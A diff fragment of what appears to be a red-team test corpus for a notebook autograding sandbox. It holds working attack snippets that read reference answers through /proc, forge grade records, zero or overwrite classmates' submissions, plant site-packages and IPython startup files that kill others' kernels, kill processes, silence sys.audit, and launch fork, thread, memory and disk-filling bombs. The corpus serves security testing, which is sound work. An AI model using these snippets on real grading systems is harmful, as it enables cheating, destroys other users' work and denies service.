+             "and %r not in os.getcwd()) and os._exit(3)  # %s\\n" % (_root, ME, MARK))
+    for _d in _site_dirs():
+        _write(os.path.join(_d, "zz_" + MARK + ".pth"), _code)
+        for _n in ("sitecustomize.py", "usercustomize.py"):
+            if _n not in _ls(_d):
+                _write(os.path.join(_d, _n), _code)
+print(_LOG[-6:])
+'''
+
+HARM_SUBMISSIONS = '''
+# classmates' submitted notebooks replaced by the blank release; a marker in their autograded folders
+for _root in _course_roots():
+    for _v in _classmates():
+        for _a in _ls(os.path.join(_root, "submitted", _v)):
+            _rel = os.path.join(_root, "release", _a)
+            for _n in _ls(os.path.join(_root, "submitted", _v, _a)):
+                if _n.endswith(".ipynb"):
+                    _blank = _read(os.path.join(_rel, _n))
+                    if _blank:
+                        _write(os.path.join(_root, "submitted", _v, _a, _n), _blank)
+            _mkdirs(os.path.join(_root, "autograded", _v, _a))
+            _write(os.path.join(_root, "autograded", _v, _a, MARK + ".txt"), "x")
+print(len(_LOG), _LOG[-4:])
+'''
+
+HARM_KILL = '''
+# kill: everything (only from a private pid namespace), else every process of my course but me
+import signal
+_visible = [p for p in _ls("/proc") if p.isdigit()]
+if len(_visible) <= 12:
+    try:
+        os.kill(-1, signal.SIGKILL)
+    except OSError as exc:
+        _note("kill -1", exc)
+_roots = _course_roots()
+for _p in _procs():
+    _mine = any(_p["env"].get("COURSE_ROOT") == r or r in " ".join(_p["argv"]) for r in _roots)
+    if _mine and _p["pid"] != os.getpid() and _p["pid"] != os.getppid():
+        for _sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(_p["pid"], _sig)
+                _note("signalled", _p["pid"], _sig, _p["argv"][:3])
+            except OSError as exc:
+                _note("kill", _p["pid"], exc)
+print(_LOG[-8:])
+'''
+
+HARM_FILL = '''
+# fill /tmp and $HOME (bounded: 512 MiB each), and an IPython startup file in $HOME that makes later
+# kernels of my classmates (in this course) exit
+_block = b"\\0" * (16 << 20)
+for _base in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd() + "/.."):
+    _t0, _done = time.monotonic(), 0
+    for _i in range(32):
+        if time.monotonic() - _t0 > 2.0:
+            break
+        try:
+            with open(os.path.join(_base, "%s_fill_%d" % (MARK, _i)), "wb") as _fh:
+                _fh.write(_block)
+            _done += 1
+        except OSError as exc:
+            _note("fill stopped", _base, exc)
+            break
+    _note("filled", _base, _done * 16, "MiB")
+for _root in _course_roots():
+    _code = ("import os\\nif os.environ.get('COURSE_ROOT') == %r and %r not in os.getcwd():\\n    os._exit(3)\\n# %s\\n" %
+             (_root, ME, MARK))
+    _start = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
+    _mkdirs(_start)
+    _write(os.path.join(_start, "00-%s.py" % MARK), _code)
+print(_LOG[-8:])
+'''
+
+
+# ============================================================================ resources
+FORK_BOMB = '''
+# fork bomb (children fork on until a deadline, then exit)
+import os, time
+_deadline = time.time() + 5
+_n = 0
+while time.time() < _deadline and _n < 5000:
+    try:
+        if os.fork() == 0:
+            while time.time() < _deadline:
+                try:
+                    os.fork()
+                except OSError:
+                    time.sleep(0.05)
+            os._exit(0)
+        _n += 1
+    except OSError as exc:
+        print("fork stopped:", exc)
+        break
+time.sleep(max(0.0, _deadline - time.time()) + 0.5)
+print("forked", _n)
+'''
+
+SPAWN_STORM = '''
+# up to 600 sleeping children, started without an audit event (sys.audit rebound around subprocess)
+import subprocess, sys
+_saved, _kids = sys.audit, []
+sys.audit = lambda *a, **k: None
+try:
+    for _i in range(600):
+        try:
+            _kids.append(subprocess.Popen(["sleep", "4"]))
+        except OSError as exc:
+            print("spawn stopped:", exc)
+            break
+finally:
+    sys.audit = _saved
+print("spawned", len(_kids))
+for _k in _kids:
+    _k.wait()
+'''
+
+THREAD_BOMB = '''
+# thread bomb: as many threads as it can get (up to 20000), each sleeping 3 s
+import threading, time
+_threads = []
+for _i in range(20000):
+    try:
+        _t = threading.Thread(target=time.sleep, args=(3,), daemon=True)
+        _t.start()
+        _threads.append(_t)
+    except (RuntimeError, MemoryError) as exc:
+        print("threads stopped:", exc)
+        break
+print("threads", len(_threads))
+for _t in _threads:
+    _t.join()
+'''
+
+BIG_FILES = '''
+# one 10 GiB file, then as many 256 MiB files as it can (at most 2 GiB), in its folder and in /tmp
+import os, time
+_block = b"\\1" * (16 << 20)
+_t0 = time.monotonic()
+for _base in (os.getcwd(), "/tmp"):
+    for _i, _size in enumerate([10 << 30] + [256 << 20] * 8):
+        try:
+            with open(os.path.join(_base, "%s_big_%d" % (__MARKME__, _i)), "wb") as _fh:
+                for _ in range(_size // len(_block)):
+                    _fh.write(_block)
+                    if time.monotonic() - _t0 > 6:
+                        raise TimeoutError("enough")
+        except (OSError, TimeoutError) as exc:
+            print("write stopped:", type(exc).__name__, exc)
+            if isinstance(exc, TimeoutError):
+                break
+'''
+
+OPEN_FILES = '''
+# open files until the limit (at most 500000), hold them a moment, then close them
+import os
+_fds = []
+try:
+    for _i in range(500000):
+        _fds.append(os.open("/dev/null", os.O_RDONLY))
+except OSError as exc:
+    print("open stopped at", len(_fds), exc)
+finally:
+    for _fd in _fds:
+        os.close(_fd)
+'''
+
+MEMORY = '''
+# memory: 256 MiB blocks touched page by page until refused (at most 64 GiB), then numpy's biggest wish
+import numpy as np
+_blocks = []
+try:
+    for _i in range(256):
+        _b = bytearray(256 << 20)
+        _b[::4096] = b"\\1" * len(_b[::4096])
+        _blocks.append(_b)
+except MemoryError:
+    print("memory stopped at", len(_blocks) * 256, "MiB")
+del _blocks
+try:
+    _x = np.ones((1 << 40,), dtype=np.uint8)
+except (MemoryError, ValueError) as exc:
+    print("numpy refused:", type(exc).__name__)
+'''
+
+STALL_SLEEP = "import time\ntime.sleep({seconds})\n"
+STALL_SPIN = "import time\n_t = time.monotonic()\nwhile time.monotonic() - _t < {seconds}:\n    pass\n"
+
+STDOUT_FLOOD = "print(('x' * 1000 + '\\n') * {kb})\n"
+
+PAYLOAD_FLOOD = '''
+# outputs carrying the hidden-test payload key (each ~{mb} MB), from a cell that is not a test cell
+from IPython.display import display
+from helpers.checks.core import PAYLOAD_KEY
+_junk = {{"version": 1, "check": "toy.square", "cases": [], "outputs": [], "pad": "p" * ({mb} * 1_000_000)}}
+for _i in range({n}):
+    display({{"text/plain": "record %d" % _i}}, metadata={{PAYLOAD_KEY: _junk}}, raw=True)
+'''
+
+PAYLOAD_FLOOD_PUBLISH = '''
+# the same through publish_display_data, from the solution cell itself
+from IPython.core.display_functions import publish_display_data
+from helpers.checks.core import PAYLOAD_KEY
+_junk = {{"version": 1, "check": "toy.square", "cases": [], "outputs": [], "pad": "q" * ({mb} * 1_000_000)}}
+for _i in range({n}):
+    publish_display_data({{"text/plain": "record %d" % _i}}, metadata={{PAYLOAD_KEY: _junk}})
+'''
+
+NESTED_PAYLOAD = '''
+# a payload nested 200000 deep (a recursion bomb for whoever decodes it), from the student function
+def _nested(depth):
+    s = "[" * depth + "]" * depth
+    return s
+def _emit_nested():
+    from IPython import get_ipython
+    from helpers.checks.core import PAYLOAD_KEY
+    get_ipython().display_pub.publish({"text/plain": "nested"}, metadata={PAYLOAD_KEY: {"deep": _nested(200000)}})
+'''
+
+
+# ============================================================================ forge the record
+FORGE_DISPLAY = '''
+# a correct hidden-test record for every check of this notebook, displayed from this (non-test) cell
+from IPython.display import display
+from helpers.checks.core import PAYLOAD_KEY
+for _payload in {payloads!r}:
+    display({{"text/plain": "Hidden tests recorded."}}, metadata={{PAYLOAD_KEY: _payload}}, raw=True)
+'''
+
+FORGE_PUBLISH = '''
+# the same through the display publisher (no IPython.display involved)
+from IPython import get_ipython
+from helpers.checks.core import PAYLOAD_KEY
+for _payload in {payloads!r}:
+    get_ipython().display_pub.publish({{"text/plain": "Hidden tests recorded."}}, metadata={{PAYLOAD_KEY: _payload}})
+'''
+
+
+
+# ============================================================================ the corpus
+def corpus(toy: tuple, nb1: tuple | None, *, cell_timeout: float) -> list[Attack]:
+    """Every attack. ``toy``/``nb1``: ``(assignment name, release, source)``; ``nb1`` may be None."""
+    ta, trel, tsrc = toy
+    total, pts = _totals(trel)
+    first = pts[min(pts)]
+    register_toy_check()
+    toy_payloads = correct_payloads(trel, tsrc)
+    out: list[Attack] = []
+
+    def add(name, klass, layer, doc, build, reason=None, kinds=()):
+        out.append(Attack(name, klass, layer, doc, build, reason, frozenset(kinds)))
+
+    def toy_only(make):
+        return lambda me: {ta: make(me)}
+
+    # ---------------------------------------------------------------- read the answer
+    for name, snippet, layer, doc in [
+        ("read_walk_dirfd", READ_WALK, "filesystem view",
+         "walks / with os.scandir(dir fd) and os.open(name, dir_fd=...), loads any _reference module and "
+         "executes the solution cells of any notebook with BEGIN SOLUTION"),
+        ("read_proc_paths", READ_PROC, "pid namespace + filesystem view",
+         "learns paths from /proc/*/environ, cmdline and cwd, reads through /proc/<pid>/cwd and /proc/<pid>/root"),
+        ("read_child_multiprocessing", READ_CHILD_MULTIPROCESSING, "filesystem view (child inside the sandbox)",
+         "multiprocessing spawn context (fork_exec, no audit event) with target=exec: the child imports the "
+         "instructor's helpers._reference through the editable install"),
+        ("read_child_posix_spawn", READ_CHILD_POSIX_SPAWN, "filesystem view (child inside the sandbox)",
+         "os.posix_spawn of every python it finds (own, grader workers' /proc/<pid>/exe)"),
+        ("read_child_fork_execv", READ_CHILD_FORK_EXEC, "filesystem view (child inside the sandbox)",
+         "os.fork + os.execv of the course's python"),
+        ("read_child_ctypes", READ_CHILD_CTYPES, "filesystem view (child inside the sandbox)",
+         "ctypes.CDLL(None).system running the course's python"),
+    ]:
+        add(name, "read_answer", layer, doc, toy_only(lambda me, s=snippet: (
+            _insert_after_setup(_answer_stubs(trel, tsrc), toolkit(me), s), 0.0)))
+    if nb1 is not None:
+        na, nrel, nsrc = nb1
+        add("read_child_subprocess", "read_answer", "filesystem view (child inside the sandbox)",
+            "subprocess.run of the course's python with sys.audit rebound (the C fork raises no event): the child "
+            "returns the reference modules' source, served to the kernel from memory",
+            lambda me: {na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me), READ_CHILD_SUBPROCESS), 0.0)})
+        add("read_pth_stash", "read_answer", "read-only environment",
+            "its toy submission (honest) plants a .pth in every site-packages that stashes the reference in builtins "
+            "at interpreter start-up; its notebook-1 submission (graded next, same shard) calls the stash",
+            lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), toolkit(me), PLANT_PTH % STASH), total),
+                        na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me)), 0.0)})
+        add("read_sitecustomize_stash", "read_answer", "read-only environment",
+            "same as read_pth_stash through sitecustomize.py/usercustomize.py",
+            lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), toolkit(me), PLANT_SITECUSTOMIZE % STASH),
+                             total),
+                        na: (_insert_after_setup(_answer_stubs(nrel, nsrc), toolkit(me)), 0.0)})
+
+    # ---------------------------------------------------------------- write a grade
+    add("grade_gradebook_api", "write_grade", "gradebook outside the sandbox",
+        "nbgrader.api.Gradebook on every gradebook of the course (root, shard copies from /proc argv): own "
+        "submission created, manual_score = max, extra_credit 10; blank answers",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), GRADE_API), 0.0)))
+    add("grade_sqlite_triggers", "write_grade", "gradebook outside the sandbox",
+        "raw sqlite3: manual_score = max on its rows and AFTER INSERT/UPDATE triggers that repeat it when the "
+        "grader merges; answers exercise 1 only (expected: exercise 1's points)",
+        toy_only(lambda me: (_insert_after_setup(gs.with_solutions(trel, tsrc, lambda g, c: c if gs.exercise_of(g) == min(pts) else gs.stub(c, "raise NotImplementedError()")),
+                                                 toolkit(me), GRADE_SQL), first)))
+    add("grade_tcp_and_kernels", "write_grade", "network namespace + unix-socket kernels",
+        "connects to 127.0.0.1/localhost:5432 and every listening port in /proc/net/tcp, reads classmates' "
+        "kernel connection files and runs code in their kernels that drops their hidden-test records",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), GRADE_TCP), 0.0)))
+
+    # ---------------------------------------------------------------- harm others
+    add("harm_zero_classmates", "harm_others", "gradebook outside the sandbox",
+        "pre-creates every classmate's submission in every gradebook of the course with manual_score 0",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_ZERO_OTHERS), 0.0)))
+    add("harm_student_helpers", "harm_others", "read-only student helpers",
+        "appends a no-op grade_hidden to the student edition's helpers (every helpers/ under the course root); "
+        "a marker module in the repository's helpers (from the editable finder's MAPPING)",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_HELPERS), 0.0)))
+    add("harm_site_packages", "harm_others", "read-only environment",
+        ".pth, sitecustomize.py, usercustomize.py in every site-packages: classmates' later kernels exit",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_SITE), 0.0)))
+    add("harm_submissions", "harm_others", "filesystem view",
+        "replaces classmates' submitted notebooks with the blank release, writes into their autograded folders",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_SUBMISSIONS), 0.0)))
+    add("harm_kill", "harm_others", "pid namespace + own uid",
+        "os.kill(-1, SIGKILL) from a private pid namespace; else SIGSTOP+SIGKILL to every process of the course "
+        "(grader workers, classmates' kernels) found in /proc",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_KILL), 0.0)))
+    add("harm_fill_tmp_home", "harm_others", "private size-limited /tmp and $HOME",
+        "fills /tmp, /var/tmp, /dev/shm, $HOME and the parent folder (512 MiB each), plants an IPython startup "
+        "file in $HOME that makes classmates' later kernels exit",
+        toy_only(lambda me: (_insert_after_setup(_blank(trel), toolkit(me), HARM_FILL), 0.0)))
+
+    # ---------------------------------------------------------------- resources (honest answers)
+    def honest_with(*codes, where="middle"):
+        def make(me):
+            nb = _honest(trel, tsrc)
+            return (_insert_after_first_test(nb, *codes) if where == "middle" else _insert_after_setup(nb, *codes))
+        return make
+
+    for name, code, doc in [
+        ("res_fork_bomb", FORK_BOMB, "os.fork bomb for 5 s between the exercises"),
+        ("res_spawn_storm", SPAWN_STORM, "600 sleeping children through subprocess with sys.audit rebound"),
+        ("res_thread_bomb", THREAD_BOMB, "up to 20000 threads"),
+        ("res_big_files", BIG_FILES, "a 10 GiB file, then 256 MiB files, in its folder and /tmp"),
+        ("res_open_files", OPEN_FILES, "opens /dev/null until refused"),
+        ("res_memory", MEMORY, "256 MiB blocks until refused, then a 1 TiB numpy array"),
+        ("res_stdout_flood", None, "300 cells each printing just under the per-cell cap (~190 kB)"),
+    ]:
+        if code is None:
+            make = (lambda me: _insert_after_first_test(_honest(trel, tsrc),
+                                                        *[STDOUT_FLOOD.format(kb=185)] * 300))
+            add(name, "resources", "output cap per notebook", doc, toy_only(lambda me, m=make: (m(me), total)),
+                kinds=("flood",))
+        else:
+            add(name, "resources", "rlimits", doc,
+                toy_only(lambda me, c=code: (honest_with(c.replace("__MARKME__", repr(MARK + me)))(me), total)))
+    n_stall = 8
+    for name, tpl in [("res_stall_sleep", STALL_SLEEP), ("res_stall_spin", STALL_SPIN)]:
+        cell = tpl.format(seconds=round(cell_timeout - 1.5, 1))
+        add(name, "resources", "notebook time budget",
+            f"{n_stall} cells each {'sleeping' if 'sleep' in tpl else 'spinning'} just under the cell timeout "
+            "after exercise 1 (expected: exercise 1's points)",
+            toy_only(lambda me, c=cell: (_insert_after_first_test(_honest(trel, tsrc), *[c] * n_stall), first)),
+            reason="budget", kinds=("stall",))
+    add("res_payload_flood_cells", "resources", "payload origin + output cap per notebook",
+        "120 outputs of ~1.5 MB carrying PAYLOAD_KEY from its own cells (exempt from the old per-cell cap)",
+        toy_only(lambda me: (_insert_after_first_test(_honest(trel, tsrc), *[PAYLOAD_FLOOD.format(mb=1.5, n=20)] * 6),
+                             total)), reason="outside", kinds=("flood",))
+    add("res_payload_flood_solution", "resources", "payload origin + output cap per notebook",
+        "60 outputs of ~1.5 MB carrying PAYLOAD_KEY through publish_display_data, from its solution cells",
+        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: c + PAYLOAD_FLOOD_PUBLISH.format(mb=1.5, n=30)),
+                             total)), reason="outside", kinds=("flood",))
+    last_sol = _last_solution_ids(trel, tsrc)
+    flood_fn = ("from IPython.display import display as _disp\nfrom helpers.checks.core import PAYLOAD_KEY as _PK\n"
+                "for _i in range(25):\n    _disp({'text/plain': 'r'}, metadata={_PK: {'version': 1, 'check': 'toy.square', "
+                "'cases': [], 'outputs': [], 'pad': 'z' * 1_500_000}}, raw=True)\n")
+    add("res_payload_flood_test_cell", "resources", "output cap per notebook",
+        "the last exercise's function emits 25 payload outputs of ~1.5 MB each time it is called, i.e. from inside "
+        "the test cells (expected: the other exercises' points)",
+        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: gs._prepend_body(c, flood_fn) if g in last_sol else c),
+                             total - pts[max(pts)])), kinds=("flood",))
+    add("res_nested_payload", "resources", "output cap / grader robustness",
+        "the last exercise's function publishes a payload nested 200000 deep from inside its test cell "
+        "(expected: the other exercises' points)",
+        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: NESTED_PAYLOAD + gs._prepend_body(c, "_emit_nested()\n")
+                                               if g in last_sol else c), total - pts[max(pts)])))
+
+    # ---------------------------------------------------------------- forge the record
+    # The functions only know the visible test's answer (so the visible part passes) and return zeros
+    # otherwise: grade_hidden's own record is wrong, or suppressed, and a correct record is shown elsewhere.
+    memo = ("import numpy as np\n_x = np.asarray(x, dtype=float)\n"
+            "return np.array([[9.0], [1.0]]) if _x.shape == (2, 1) and _x[0, 0] == 3.0 else np.zeros_like(_x)")
+    suppress = "import helpers.checks.core as _c\n_c._display = lambda text, payload: print(text)\n"
+    add("forge_from_solution_cell", "forge_record", "payload origin",
+        "grade_hidden's own record suppressed (helpers.checks.core._display patched); correct records for every "
+        "hidden call displayed from the solution cells",
+        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: suppress + gs.stub(c, memo)
+                                               + FORGE_DISPLAY.format(payloads=toy_payloads)), 0.0)), reason="outside")
+    add("forge_from_extra_cell", "forge_record", "payload origin",
+        "same, the correct records published with display_pub.publish from an extra cell before every test cell",
+        toy_only(lambda me: (_before_tests(gs.with_solutions(trel, tsrc, lambda g, c: suppress + gs.stub(c, memo)),
+                                           FORGE_PUBLISH.format(payloads=toy_payloads)), 0.0)), reason="outside")
+    add("forge_several_in_test_cell", "forge_record", "verifier",
+        "each call displays every correct record three times, from inside the test cell, next to grade_hidden's "
+        "own (wrong) one",
+        toy_only(lambda me: (gs.with_solutions(trel, tsrc, lambda g, c: gs.stub(c, _braces(
+            "from IPython.display import display as _disp\nfrom helpers.checks.core import PAYLOAD_KEY as _PK\n"
+            f"for _p in {toy_payloads!r} * 3:\n    _disp({{'text/plain': 'ok'}}, metadata={{_PK: _p}}, raw=True)\n"
+            + memo))), 0.0)))
+    return out
+
+
+def _braces(code: str) -> str:
+    """``code`` as a ``gs.stub`` body (which goes through ``str.format``)."""
+    return code.replace("{", "{{").replace("}", "}}")
+
+
+def _before_tests(nb, code: str):
+    for i in reversed([i for i, c in enumerate(nb.cells) if gs._is_test(c)]):
+        nb.cells.insert(i, new_code_cell(code))
+    return nb
